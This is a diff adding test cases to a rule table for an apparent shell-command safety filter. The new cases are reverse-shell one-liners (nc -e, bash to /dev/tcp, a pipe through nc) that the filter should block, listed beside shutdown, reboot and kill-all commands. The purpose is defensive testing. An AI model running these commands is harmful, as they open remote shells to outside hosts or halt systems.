@@ -128,6 +128,16 @@ RULE_CASES: tuple[RuleCase, ...] = (
     RuleCase("power-shutdown", "shutdown -h now", "block", "shell.power"),
     RuleCase("power-systemctl", "systemctl reboot", "block", "shell.power"),
     RuleCase("kill-all", "kill -9 -1", "block", "shell.kill-all"),
+    RuleCase("reverse-nc", "nc -e /bin/sh x 4444", "block", "shell.reverse-shell"),
+    RuleCase(
+        "reverse-dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "block", "shell.reverse-shell"
+    ),
+    RuleCase(
+        "reverse-fifo",
+        "cat /tmp/f | sh -i 2>&1 | nc x 1234 > /tmp/f",
+        "block",
+        "shell.reverse-shell",
+    ),
     RuleCase("unresolved-var", "$CMD --version", "confirm", "shell.unresolved"),
     RuleCase("unresolved-subst", "$(get_cmd) --help", "confirm", "shell.unresolved"),
     RuleCase("unresolved-braced", "${RUNNER} test", "confirm", "shell.unresolved"),
